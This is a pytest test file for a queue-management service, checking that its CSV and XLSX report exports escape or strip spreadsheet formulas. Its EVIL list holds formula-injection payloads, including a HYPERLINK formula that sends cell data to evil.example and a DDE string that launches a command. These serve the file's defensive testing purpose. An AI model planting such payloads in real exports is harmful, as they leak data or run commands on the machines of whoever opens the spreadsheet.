"""CSV and XLSX exports never carry a live formula: a field or officer named
`=HYPERLINK(...)` arrives in the manager's spreadsheet as plain text."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from tests.factories import bearer, make_token

PERIOD = {"office": "T1", "from": "2026-11-23", "to": "2026-11-23"}
EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def evil_export(client, engine, office, clock):
    manager = bearer(make_token(engine.db, "boss", role="manager"))
    admin = bearer(make_token(engine.db, "root", role="admin", offices=()))
    assert (
        client.patch(
            "/api/v1/offices/T1/services/A", headers=manager, json={"name": EVIL[0]}
        ).status_code
        == 200
    )
    officer = client.post(
        "/api/v1/users",
        headers=admin,
        json={
            "username": "evil",
            "full_name": EVIL[1],
            "role": "officer",
            "offices": ["T1"],
            "password": "mat-khau-dai",
        },
    ).get_json()
    counter = office["counters"][1]
    assert (
        client.patch(
            f"/api/v1/counters/{counter}", headers=manager, json={"name": EVIL[3]}
        ).status_code
        == 200
    )
    engine.set_counter_state(counter, "open", officer["id"])
    ticket = engine.issue("T1", "A")
    engine.call_next(counter, officer["id"])
    engine.start(ticket["id"], officer["id"])
    engine.finish(ticket["id"], officer["id"])
    return client, manager


def test_csv_cells_that_look_like_formulas_start_with_a_quote(evil_export):
    client, manager = evil_export
    # Both styles: the default for a Vietnamese Excel (";" and decimal commas), and "plain".
    for kind, group, style, separator in (
        ("log", "service", "excel-vi", ";"),
        ("figures", "service", "excel-vi", ";"),
        ("figures", "officer", "excel-vi", ";"),
        ("figures", "counter", "excel-vi", ";"),
        ("log", "service", "plain", ","),
        ("figures", "service", "plain", ","),
    ):
        response = client.get(
            "/api/v1/reports/export",
            headers=manager,
            query_string={**PERIOD, "format": "csv", "kind": kind, "group": group, "csv": style},
        )
        assert response.status_code == 200
        text = response.data.decode("utf-8").lstrip("\ufeff")
        rows = csv.reader(io.StringIO(text), delimiter=separator)
        cells = [cell for row in rows for cell in row]
        risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert risky == [], (kind, group, risky)
        assert any(c == "'" + EVIL[0] for c in cells) or kind == "figures" and group != "service"


def test_xlsx_has_no_formula_at_all(evil_export):
    client, manager = evil_export
    response = client.get(
        "/api/v1/reports/export",
        headers=manager,
        query_string={**PERIOD, "format": "xlsx", "kind": "log"},
    )
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    values = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row]
    assert EVIL[0] in values and EVIL[1] in values
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)


def test_numbers_stay_numbers(evil_export):
    client, manager = evil_export
    response = client.get(
        "/api/v1/reports/export", headers=manager, query_string={**PERIOD, "format": "xlsx"}
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][1:3] == (1, 1)
